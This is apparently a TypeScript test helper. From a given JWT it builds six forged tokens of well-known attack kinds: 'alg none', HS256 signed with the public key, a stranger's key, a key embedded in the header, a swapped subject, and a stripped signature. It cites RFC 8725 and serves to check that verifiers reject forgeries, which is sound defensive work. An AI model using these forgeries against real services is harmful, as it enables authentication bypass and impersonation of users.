import { createHmac, createPublicKey, generateKeyPairSync, sign, type JsonWebKey } from 'node:crypto';

export interface Jwt {
  header: Record<string, unknown>;
  payload: Record<string, unknown>;
}

const part = (text: string | undefined): Record<string, unknown> =>
  JSON.parse(Buffer.from(text ?? '', 'base64url').toString('utf8')) as Record<string, unknown>;

const encode = (value: object): string => Buffer.from(JSON.stringify(value)).toString('base64url');

/** Header and payload of a compact JWT, unverified. */
export const decode = (token: string): Jwt => {
  const [header, payload] = token.split('.');
  return { header: part(header), payload: part(payload) };
};

/** Forgeries of a token with the same claims: what a verifier that trusts the header would accept (RFC 8725 §2.1). */
export const forgeries = (token: string, jwk: JsonWebKey): Record<string, string> => {
  const { header, payload } = decode(token);
  const body = (change: object): string => `${encode({ ...header, ...change })}.${encode(payload)}`;
  const none = body({ alg: 'none' });
  const hmac = body({ alg: 'HS256' });
  const pem = createPublicKey({ key: jwk, format: 'jwk' }).export({ type: 'spki', format: 'pem' });
  const stranger = generateKeyPairSync('rsa', { modulusLength: 2048 });
  const rsa = body({});
  const embedded = body({ jwk: stranger.publicKey.export({ format: 'jwk' }) });
  const signed = (input: string): string =>
    `${input}.${sign('sha256', Buffer.from(input), stranger.privateKey).toString('base64url')}`;
  return {
    'alg none': `${none}.`,
    'HS256 with the public key': `${hmac}.${createHmac('sha256', pem).update(hmac).digest('base64url')}`,
    'a key of a stranger': signed(rsa),
    'a key in the header': signed(embedded),
    'another subject': `${encode(header)}.${encode({ ...payload, sub: 'usr_01h00000000000000000000000' })}.${token.split('.')[2]}`,
    'no signature': `${encode(header)}.${encode(payload)}`,
  };
};
